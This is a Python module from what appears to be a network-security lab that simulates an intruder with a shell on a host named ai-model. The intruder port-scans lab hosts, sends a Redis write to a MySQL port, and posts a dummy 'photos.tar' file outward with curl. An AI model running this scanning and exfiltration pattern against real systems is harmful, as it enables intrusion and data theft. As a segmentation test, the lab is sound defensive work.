"""The attack: somebody has a shell on ai-model."""

from cast import MYSQL_PORT, NEW_API_PORT, PROGRAMS, SECOND_IPV4, SECOND_IPV6

SCANNED_PORTS = [22, 80, 443, MYSQL_PORT, 5000, NEW_API_PORT, 6379, 8080]
LOOT_BYTES = 50_000


class Intruder:
    """Tries three things, over both families, and tells how far it came."""

    def __init__(self, cast, narrator):
        self.cast = cast
        self.host = cast.ai_model
        self.narrator = narrator
        self.loot = cast.lab.directory / "photos.tar"
        self.loot.write_bytes(bytes(LOOT_BYTES))

    def scan(self):
        """Looks for open ports; returns the set of "host:port/family" that answered."""
        found = set()
        for host in (self.cast.frontend, self.cast.photo_db, self.cast.internet):
            for family in (4, 6):
                command = [PROGRAMS / "scan.sh", host.address(family), *SCANNED_PORTS]
                for line in self.host.output(command, timeout_s=60).splitlines():
                    found.add(f"{host.label}:{line.split()[2]}/IPv{family}")
        return found

    def speak_redis(self):
        """Speaks Redis to the server on MySQL's port; returns what was answered, by family."""
        answers = {}
        for family, address in ((4, SECOND_IPV4), (6, SECOND_IPV6)):
            command = ["timeout", "5", "redis-cli", "-h", address, "-p", str(MYSQL_PORT), "SET", "stolen", "photos"]
            answers[family] = self._try(command)
        return answers

    def exfiltrate(self):
        """Posts the loot to the internet by HTTPS; returns what was answered, by family."""
        answers = {}
        for family in (4, 6):
            url = f"https://{self.cast.internet.authority(family)}/"
            command = ["curl", "-sS", "--insecure", "--max-time", "5", "--data-binary", f"@{self.loot}", url]
            answers[family] = self._try(command)
        return answers

    def _try(self, command):
        result = self.host.run(command, check=False)
        answer = (result.stdout + result.stderr).strip() or f"nothing (exit status {result.returncode})"
        shown = " ".join(command).replace(f"{self.cast.lab.directory}/", "")
        self.narrator.show(shown, answer, prompt=f"{self.host.label}#")
        return answer
